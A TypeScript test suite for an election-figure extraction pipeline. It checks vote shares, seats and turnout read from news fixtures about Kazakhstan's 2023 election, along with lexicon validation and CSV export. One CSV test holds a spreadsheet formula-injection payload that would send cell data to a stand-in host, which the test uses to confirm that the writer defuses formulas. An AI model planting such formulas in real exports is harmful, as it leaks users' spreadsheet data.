/**
 * Extraction on the seeds fixture project (its sources/*.md with its sources/lexicon.yaml): the figures the
 * briefing is built from come out with the right metric, entity, value, qualifier and election,
 * and every claim quotes its sentence and points at the number in the file.
 */
import * as msg from '../../pipeline/shared/messages.ts';
import { existsSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { ingest } from '../../pipeline/ingest/index.ts';
import { generalLexicon, parseLexicon } from '../../pipeline/shared/lexicon.ts';
import { claimsToCsv, extract } from '../../pipeline/extract/index.ts';
import { unclaimedNumbers, formatClaimsReport } from '../../pipeline/extract/report.ts';
import { Claims, type Claim } from '../../pipeline/shared/schema.ts';
import { fixtures, repo, seeds } from '../paths.ts';

const root = seeds;
const lexicon = parseLexicon('sources/lexicon.yaml', readFileSync(join(root, 'sources', 'lexicon.yaml'), 'utf8'));
const files = readdirSync(join(root, 'sources'))
  .filter((f) => f.endsWith('.md'))
  .map((f) => ({ file: `sources/${f}`, text: readFileSync(join(root, 'sources', f), 'utf8') }));
const corpus = ingest(files, lexicon);
const claims = extract(corpus, lexicon);

function find(source: string, metric: string, entity: string, q?: Partial<Claim>): Claim[] {
  return claims.filter(
    (c) =>
      c.source === source &&
      c.metric === metric &&
      c.entity === entity &&
      Object.entries(q ?? {}).every(([k, v]) => (c as Record<string, unknown>)[k] === v),
  );
}

describe('extract on the real corpus', () => {
  it('produces valid claims whose quote, text and line:column point into the files', () => {
    expect(() => Claims.parse(claims)).not.toThrow();
    for (const c of claims) {
      const source = corpus.sources.find((s) => s.meta.id === c.source)!;
      expect(source.body.slice(c.span[0], c.span[1])).toBe(c.quote);
      expect(source.body.slice(c.textSpan[0], c.textSpan[1])).toBe(c.text);
      const file = files.find((f) => f.file === source.file)!.text.split('\n');
      expect(file[c.line - 1]!.slice(c.column - 1, c.column - 1 + c.text.length)).toBe(c.text);
    }
  });

  it('numbers claims per source in reading order, sources in corpus order', () => {
    const order = corpus.sources.map((s) => s.meta.id);
    let last = -1;
    for (const c of claims) {
      const i = order.indexOf(c.source);
      expect(i).toBeGreaterThanOrEqual(last);
      last = i;
    }
    for (const id of order) {
      const mine = claims.filter((c) => c.source === id);
      expect(mine.map((c) => c.id)).toEqual(mine.map((_, n) => `${id}:c${n + 1}`));
      const starts = mine.map((c) => c.textSpan[0]);
      expect(starts).toEqual([...starts].sort((a, b) => a - b));
    }
  });

  it('reads the party-list vote shares, each for its own party', () => {
    const expected: [string, number][] = [
      ['amanat', 53.9],
      ['auyl', 10.9],
      ['respublica', 8.59],
      ['ak-zhol', 8.41],
      ['peoples-party', 6.8],
      ['nsdp', 5.2],
      ['baytaq', 2.3],
    ];
    for (const [entity, value] of expected) {
      expect(find('sailaunews', 'vote_share', entity, { value, qualifier: 'preliminary', election: 2023 }), entity).toHaveLength(1);
    }
    expect(find('diplomat', 'vote_share', 'respublica', { value: 8.5, precision: 0.05, qualifier: 'final' })).toHaveLength(1);
    expect(find('kisi', 'vote_share', 'amanat', { value: 71.09, qualifier: 'historical', election: 2021 })).toHaveLength(1);
    expect(find('preelection', 'vote_share', 'amanat', { value: 66.7, qualifier: 'forecast', text: '66,7%' })).toHaveLength(1);
    expect(find('preelection', 'vote_share', 'against-all', { value: 5.3, qualifier: 'forecast' })).toHaveLength(1);
  });

  it('reads seats: list, single-mandate, total, earlier elections', () => {
    expect(find('diplomat', 'seats_total', 'amanat', { value: 63, qualifier: 'final' })).toHaveLength(1);
    expect(find('diplomat', 'seats_list', 'amanat', { value: 40, qualifier: 'final' })).toHaveLength(1);
    expect(find('diplomat', 'seats_single_mandate', 'amanat', { value: 23, qualifier: 'final', text: '23 of the 29' })).toHaveLength(1);
    // The stage of the nearest frame before it ("the announcement of preliminary results"): the decision list's step 2.
    expect(find('diplomat', 'seats_single_mandate', 'self-nominated', { value: 6, qualifier: 'preliminary' })).toHaveLength(1);
    expect(find('diplomat', 'seats_total', 'amanat', { value: 76, qualifier: 'historical', election: 2021 })).toHaveLength(1);
    expect(find('diplomat', 'seats_total', 'amanat', { value: 98, qualifier: 'historical', election: 2007 })).toHaveLength(1);
    expect(find('sailaunews', 'seats_single_mandate', 'amanat', { value: 22, qualifier: 'preliminary', text: '22 out of 29' })).toHaveLength(1);
    expect(find('sailaunews', 'seats_single_mandate', 'self-nominated', { value: 7, qualifier: 'preliminary' })).toHaveLength(1);
    expect(find('sailaunews', 'seats_total', 'amanat', { bound: 'range', low: 62, high: 64, value: null })).toHaveLength(1);
    expect(find('sailaunews', 'seats_total', 'amanat', { value: 76, qualifier: 'historical', election: 2021 })).toHaveLength(1);
    expect(find('diplomat', 'seats_total', 'national', { value: 98, qualifier: 'rule' })).toHaveLength(1);
    expect(find('diplomat', 'seats_list', 'national', { value: 69, qualifier: 'rule' })).toHaveLength(1);
    expect(find('diplomat', 'seats_single_mandate', 'national', { value: 29, qualifier: 'rule' })).toHaveLength(1);
  });

  it('reads turnout, national and in Almaty, reported and estimated', () => {
    expect(find('sailaunews', 'turnout', 'national', { value: 54.19, precision: 0.005, qualifier: 'preliminary' })).toHaveLength(1);
    expect(find('diplomat', 'turnout', 'national', { value: 54, qualifier: 'final' })).toHaveLength(1);
    expect(find('timesca', 'turnout', 'national', { value: 53, qualifier: 'unspecified' })).toHaveLength(1);
    expect(find('timesca', 'turnout', 'national', { value: 54, text: '54 per cent' })).toHaveLength(1);
    expect(find('diplomat', 'turnout', 'almaty', { value: 25, qualifier: 'final' })).toHaveLength(1);
    expect(find('diplomat', 'turnout', 'almaty', { bound: 'range', low: 10, high: 12, qualifier: 'estimate' })).toHaveLength(1);
    expect(find('sailaunews', 'turnout', 'national', { bound: 'lower-bound', low: 60, qualifier: 'forecast' })).toHaveLength(1);
  });

  it("drops a figure for another country (Canada's 54 percent)", () => {
    const timesca = claims.filter((c) => c.source === 'timesca' && c.metric === 'turnout');
    expect(timesca.map((c) => c.text)).toEqual(['53 percent', '54 per cent']);
  });

  it('reads ballots cast and registered voters from "about 6.3 million out of 12 million"', () => {
    expect(find('sailaunews', 'ballots_cast', 'national', { value: 6_300_000, bound: 'approximate', precision: 50_000, text: 'about 6.3 million' })).toHaveLength(1);
    expect(find('sailaunews', 'registered_voters', 'national', { value: 12_000_000, text: '12 million' })).toHaveLength(1);
  });

  it('reads the threshold as a rule and the old one as historical', () => {
    expect(find('preelection', 'threshold', 'national', { value: 7, qualifier: 'historical', election: 2021 })).toHaveLength(1);
    expect(find('preelection', 'threshold', 'national', { value: 5, qualifier: 'rule' })).toHaveLength(2);
    expect(find('sailaunews', 'threshold', 'national', { value: 5, qualifier: 'rule' })).toHaveLength(1);
  });

  it('makes no claim from the currency ticker', () => {
    const ticker = corpus.sources.find((s) => s.meta.id === 'timesca')!;
    const tickerEnd = ticker.body.indexOf('The Significance');
    expect(claims.filter((c) => c.source === 'timesca' && c.textSpan[0] < tickerEnd)).toEqual([]);
  });
});

/**
 * Fixture cases: test/fixtures/extract/<case>/input.md (a made-up article, read with the real
 * lexicon) → output.json (the claims, compact, and the numbers that became no claim, with why).
 * Run with UPDATE_FIXTURES=1 to write missing or changed expected files, then review the diff.
 */
const fixtureDir = join(fixtures, 'extract');
const update = process.env.UPDATE_FIXTURES === '1';

function compact(c: Claim) {
  return {
    id: c.id,
    at: `${c.line}:${c.column}`,
    text: c.text,
    figure: `${c.metric}.${c.entity}`,
    ...(c.value != null ? { value: c.value } : {}),
    ...(c.low != null ? { low: c.low } : {}),
    ...(c.high != null ? { high: c.high } : {}),
    bound: c.bound,
    precision: c.precision,
    unit: c.unit,
    qualifier: c.qualifier,
    election: c.election,
  };
}

describe('extract fixtures', () => {
  for (const name of readdirSync(fixtureDir).sort()) {
    it(name, () => {
      const input = { file: `sources/${name}.md`, text: readFileSync(join(fixtureDir, name, 'input.md'), 'utf8') };
      const corpus = ingest([input], lexicon);
      const claims = extract(corpus, lexicon);
      const unclaimed = unclaimedNumbers(corpus, lexicon, claims).map((u) => `${u.line}:${u.column} ${u.text} [${u.kind}]`);
      const actual = `${JSON.stringify({ claims: claims.map(compact), unclaimed }, null, 2)}\n`;
      const path = join(fixtureDir, name, 'output.json');
      if (update && (!existsSync(path) || readFileSync(path, 'utf8') !== actual)) writeFileSync(path, actual);
      expect(existsSync(path), `${path} is missing: run with UPDATE_FIXTURES=1`).toBe(true);
      expect(actual).toBe(readFileSync(path, 'utf8'));
    });
  }
});

describe('lexicon: metrics, numbers and qualifiers are validated with clear errors', () => {
  // The general lexicon, read as a whole lexicon (with one entity), as an event could write it.
  const base = `entities:\n  - {id: amanat, name: Amanat, kind: party, aliases: [Amanat]}\n${readFileSync(join(repo, 'pipeline', 'extract', 'general.yaml'), 'utf8')}`;
  function error(text: string): string {
    try {
      parseLexicon('sources/lexicon.yaml', text, null);
    } catch (e) {
      return (e as Error).message;
    }
    throw new Error('no error');
  }

  it('points at a metric field of the wrong kind', () => {
    const text = base.replace('    unit: people\n    cues: [observers, monitors]', '    unit: people\n    cues: observers');
    const line = text.split('\n').findIndex((l) => l === '    cues: observers') + 1;
    expect(error(text)).toBe(
      `sources/lexicon.yaml:${line}:11: error: the lexicon is not valid: metrics.${lexicon.metrics.findIndex((m) => m.id === 'observers')}.cues: Invalid input: expected array, received string [bad-lexicon]\n  ${msg.BAD_LEXICON_HINT}`,
    );
  });

  it("takes election day as YYYY-MM-DD of the election's year, and points at a wrong one", () => {
    const day = (d: string) => `entities:\n  - {id: amanat, name: Amanat, kind: party, aliases: [Amanat]}\nelection:\n  year: 2031\n  date: ${d}\n`;
    expect(parseLexicon('sources/lexicon.yaml', day('2031-05-04'), null).election?.date).toBe('2031-05-04');
    expect(error(day('2030-05-04'))).toBe(`sources/lexicon.yaml:5:9: error: the lexicon is not valid: ${msg.LEXICON_BAD_DATE('2030-05-04', 2031)} [bad-lexicon]\n  ${msg.BAD_LEXICON_HINT}`);
    expect(error(day('2031-02-30'))).toContain(msg.LEXICON_BAD_DATE('2031-02-30', 2031));
    expect(error(day('4 May 2031'))).toContain('a date is written YYYY-MM-DD');
  });

  it("takes a run-off's day after election day, and points at a wrong one", () => {
    const runoff = (d: string) => `entities:\n  - {id: amanat, name: Amanat, kind: party, aliases: [Amanat]}\nelection:\n  year: 2031\n  date: 2031-05-04\n  second_round: ${d}\n`;
    expect(parseLexicon('sources/lexicon.yaml', runoff('2031-05-18'), null).election?.second_round).toBe('2031-05-18');
    expect(error(runoff('2031-05-01'))).toBe(`sources/lexicon.yaml:6:17: error: the lexicon is not valid: ${msg.LEXICON_BAD_SECOND_ROUND('2031-05-01', 2031, '2031-05-04')} [bad-lexicon]\n  ${msg.BAD_LEXICON_HINT}`);
    expect(error(runoff('2033-01-10'))).toContain(msg.LEXICON_BAD_SECOND_ROUND('2033-01-10', 2031, '2031-05-04'));
  });

  it("takes the country as one name or a list of its names, none of them foreign", () => {
    const text = `entities:\n  - {id: amanat, name: Amanat, kind: party, aliases: [Amanat]}\ncountry: [Norland, Republic of Norland]\nforeign: [[Republic of Norland, Norlanders], Sudland]\n`;
    const lex = parseLexicon('sources/lexicon.yaml', text, generalLexicon().lexicon);
    expect(lex.country).toEqual(['Norland', 'Republic of Norland']);
    expect(lex.foreign).toContain('Sudland');
    expect(lex.foreign).not.toContain('Republic of Norland');
  });

  it('takes the last day of voting after election day, and points at a wrong one', () => {
    const days = (d: string, first = '2031-05-04') => `entities:\n  - {id: amanat, name: Amanat, kind: party, aliases: [Amanat]}\nelection:\n  year: 2031\n  date: ${first}\n  last_day: ${d}\n`;
    expect(parseLexicon('sources/lexicon.yaml', days('2031-05-06'), null).election?.last_day).toBe('2031-05-06');
    expect(error(days('2031-05-04'))).toBe(`sources/lexicon.yaml:6:13: error: the lexicon is not valid: ${msg.LEXICON_BAD_LAST_DAY('2031-05-04', '2031-05-04')} [bad-lexicon]\n  ${msg.BAD_LEXICON_HINT}`);
    expect(error(days('2031-07-01'))).toContain(msg.LEXICON_BAD_LAST_DAY('2031-07-01', '2031-05-04'));
    expect(error(days('2031-05-06', 'null'))).toContain(msg.LEXICON_BAD_LAST_DAY('2031-05-06', null));
  });

  it('keeps the ids figure ids use for themselves: national (only the country, a place) and unknown', () => {
    const party = base.replace('{id: amanat, name: Amanat, kind: party', '{id: national, name: National Party, kind: party');
    expect(error(party)).toBe(
      `sources/lexicon.yaml:2:10: error: the lexicon is not valid: ${msg.LEXICON_RESERVED_ID('national')} [bad-lexicon]\n  ${msg.BAD_LEXICON_HINT}`,
    );
    expect(error(base.replace('{id: amanat,', '{id: unknown,'))).toMatch(/entity id "unknown" is reserved/);
    const place = base.replace('{id: amanat, name: Amanat, kind: party, aliases: [Amanat]}', '{id: national, name: Norland, kind: place, aliases: [Norland]}');
    expect(parseLexicon('sources/lexicon.yaml', place, null).entities.map((e) => e.id)).toEqual(['national']);
  });

  it('rejects a metric id used twice, a total that is no metric, two fallbacks', () => {
    expect(error(base.replace('  - id: observers', '  - id: turnout'))).toMatch(/metric id "turnout" appears twice/);
    expect(error(base.replace('total: registered_voters', 'total: voters'))).toMatch(/metric "turnout": total names the metric "voters", which is not one of the metrics/);
    expect(error(base.replace('    unit: \'%\'\n    cues: [turnout,', '    unit: \'%\'\n    fallback: true\n    cues: [turnout,'))).toMatch(
      /metrics "turnout" and "vote_share" are both the fallback for per-cent figures/,
    );
  });

  it('a lexicon without the extraction blocks still parses, and extracts nothing on its own', () => {
    const minimal = parseLexicon('x.yaml', 'entities:\n  - {id: amanat, name: Amanat, kind: party, aliases: [Amanat]}\n', null);
    expect(minimal.metrics).toEqual([]);
    expect(extract(corpus, minimal)).toEqual([]);
  });

  it("an event's lexicon of entities alone is read with the general lexicon's metrics, cues and countries", () => {
    const event = parseLexicon(
      'x.yaml',
      'entities:\n  - {id: unity, name: Unity, kind: party, aliases: [Unity]}\nelection: {year: 2031, previous: 2027, chamber: [Grand Hall]}\ncountry: Freedonia\nforeign: [[Sylvania, Sylvanian Republic]]\nlabels: {seats_total: Seats in the Grand Hall}\n',
    );
    expect(event.metrics.map((m) => m.id)).toContain('vote_share');
    expect(event.metrics.find((m) => m.id === 'seats_total')!.label).toBe('Seats in the Grand Hall');
    expect(event.qualifiers.historical).toContain('previous Grand Hall');
    expect(event.qualifiers.historical.some((w) => w.includes('{chamber}'))).toBe(false);
    expect(event.foreign).toEqual(expect.arrayContaining(['Canada', 'Sylvania', 'Sylvanian Republic']));
    const doc = ingest([{ file: 'sources/x.md', text: '---\nid: x\ntitle: null\noutlet: null\nauthor: null\npublished: null\nurl: null\nretrieved: null\n---\nUnity won 41.5% of the vote, up from 30% in the previous Grand Hall.\n' }], event);
    expect(extract(doc, event).map((c) => [c.metric, c.entity, c.value, c.qualifier, c.election])).toEqual([
      ['vote_share', 'unity', 41.5, 'unspecified', 2031],
      ['vote_share', 'unity', 30, 'historical', 2027],
    ]);
  });

  it('general rules: a threshold takes only its own number, a clock time is no count, "people" narrows no metric', () => {
    const event = parseLexicon('x.yaml', 'entities:\n  - {id: unity, name: Unity, kind: party, aliases: [Unity]}\n  - {id: reform, name: Reform, kind: party, aliases: [Reform]}\nelection: {year: 2031}\n');
    const read = (body: string) => {
      const doc = ingest([{ file: 'sources/x.md', text: `---\nid: x\ntitle: null\noutlet: null\nauthor: null\npublished: null\nurl: null\nretrieved: null\n---\n${body}\n` }], event);
      return extract(doc, event).map((c) => `${c.text} ${c.metric}.${c.entity}`);
    };
    expect(read('Unity won 41.5% and Reform 6.1%, clearing the 5% threshold.')).toEqual(['41.5% vote_share.unity', '6.1% vote_share.reform', '5% threshold.national']);
    expect(read('By 10:00 local time, turnout was 6.7%.')).toEqual(['6.7% turnout.national']);
    expect(read('Of the new deputies, 29 people had served before.')).toEqual([]);
  });

  it("the event's own country (every name of it) is no foreign place", () => {
    const uk = parseLexicon('x.yaml', 'entities:\n  - {id: lab, name: Labour, kind: party, aliases: [Labour]}\ncountry: United Kingdom\n');
    expect(uk.foreign).not.toContain('UK');
    expect(uk.foreign).not.toContain('Britain');
    expect(uk.foreign).toContain('France');
  });

  it('a new alias or cue needs no code: a made-up party and metric are read from the lexicon', () => {
    const text = base
      .replace('entities:\n', 'entities:\n  - {id: green, name: Greens, kind: party, aliases: [Greens, Green Alliance]}\n')
      .replace('metrics:\n', 'metrics:\n  - {id: women_elected, label: Women elected, unit: deputies, cues: [women], entity: national}\n');
    const lex = parseLexicon('sources/lexicon.yaml', text, null);
    const doc = ingest([{ file: 'sources/x.md', text: '---\nid: x\ntitle: null\noutlet: null\nauthor: null\npublished: null\nurl: null\nretrieved: null\n---\nThe Green Alliance won 4.2% of the vote, and 18 women entered the parliament.\n' }], lex);
    expect(extract(doc, lex).map((c) => [c.metric, c.entity, c.value])).toEqual([
      ['vote_share', 'green', 4.2],
      ['women_elected', 'national', 18],
    ]);
  });
});

describe('claimsToCsv and determinism', () => {
  it('writes RFC 4180 CSV: a header, CRLF rows, fields with commas or quotes quoted', () => {
    const csv = claimsToCsv(claims);
    const rows = csv.split('\r\n');
    expect(rows[0]).toBe('id,source,metric,entity,value,low,high,bound,precision,unit,qualifier,election,text,line,column,sentence,quote');
    expect(rows).toHaveLength(claims.length + 2);
    expect(rows.at(-1)).toBe('');
    const quoted = claims.find((c) => c.quote.includes('"'))!;
    expect(csv).toContain(`"${quoted.quote.replace(/"/g, '""')}"`);
    expect(rows[1]!.slice(0, rows[1]!.indexOf(',"') + 1)).toBe('diplomat:c1,diplomat,seats_total,national,98,,,exact,0.5,seats,rule,2023,98,14,8,diplomat:s5,');
  });

  it('defuses article text that a spreadsheet would run as a formula', () => {
    const quote = '=HYPERLINK("https://x.example/?d="&A1) Turnout was 54.19%.';
    const csv = claimsToCsv([{ ...claims[0]!, quote, value: -1 }]);
    const row = csv.split('\r\n')[1]!;
    expect(row.endsWith(`,"'=HYPERLINK(""https://x.example/?d=""&A1) Turnout was 54.19%."`)).toBe(true);
    expect(row).toContain(',-1,');
  });

  it('gives the same claims for the same input, whatever happened before', () => {
    const again = extract(ingest([...files].reverse(), lexicon), lexicon);
    expect(again).toEqual(claims);
    const fresh = parseLexicon('sources/lexicon.yaml', readFileSync(join(root, 'sources', 'lexicon.yaml'), 'utf8'));
    expect(extract(corpus, fresh)).toEqual(claims);
  });

  it('prints the analyst report: claims, then the numbers that became no claim with why', () => {
    const report = formatClaimsReport(corpus, claims, unclaimedNumbers(corpus, lexicon, claims));
    expect(report).toContain('timesca (sources/timesca-significance.md): 3 claims,');
    expect(report).toContain('sources/timesca-significance.md:57:441  "54 percent"  [foreign]  While the treadmill');
    expect(report).toContain('sources/diplomat-sorbello.md:22:118  "at least 238"  [other]');
    expect(report).not.toMatch(/0\.00191|0\.09103/);
  });
});

describe('extract: properties on generated text', () => {
  const pieces = [
    'Amanat', 'Auyl', 'Nur Otan', 'Almaty', 'Canada', 'turnout', 'seats', 'of the vote', 'threshold', 'preliminary results',
    'final results', 'survey', 'in 2021', 'At the 2007 elections,', 'the remaining', 'out of', 'of the', 'between', 'and',
    'about', 'more than', 'nearly', '54.19%', '66,7%', '62-64', '22', '29', 'seven', 'two-thirds', '6.3 million', '12,000',
    '—', ';', ',', '.', '(', ')', ' - ', 'per cent', 'percent', 'March 19', '23-hour', '$5 billion', '50/50', 'ten years',
  ];
  it('never throws, and every claim points at its own text in the file', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.constantFrom(...pieces), { minLength: 1, maxLength: 25 }), { minLength: 1, maxLength: 4 }), (lines) => {
        const body = lines.map((l) => `${l.join(' ')}.`).join('\n');
        const text = `---\nid: gen\ntitle: null\noutlet: null\nauthor: null\npublished: null\nurl: null\nretrieved: null\n---\n${body}\n`;
        const doc = ingest([{ file: 'sources/gen.md', text }], lexicon);
        const found = extract(doc, lexicon);
        expect(() => Claims.parse(found)).not.toThrow();
        const source = doc.sources[0]!;
        const fileLines = text.split('\n');
        found.forEach((c, i) => {
          expect(c.id).toBe(`gen:c${i + 1}`);
          expect(source.body.slice(c.span[0], c.span[1])).toBe(c.quote);
          expect(source.body.slice(c.textSpan[0], c.textSpan[1])).toBe(c.text);
          expect(c.textSpan[0] >= c.span[0] && c.textSpan[1] <= c.span[1]).toBe(true);
          expect(fileLines[c.line - 1]!.slice(c.column - 1, c.column - 1 + c.text.length)).toBe(c.text);
          if (c.bound === 'range') expect(c.low! <= c.high!).toBe(true);
        });
        for (const u of unclaimedNumbers(doc, lexicon, found)) expect(fileLines[u.line - 1]!.slice(u.column - 1, u.column - 1 + u.text.length)).toBe(u.text);
      }),
      { numRuns: 150, seed: 3 },
    );
  });
});
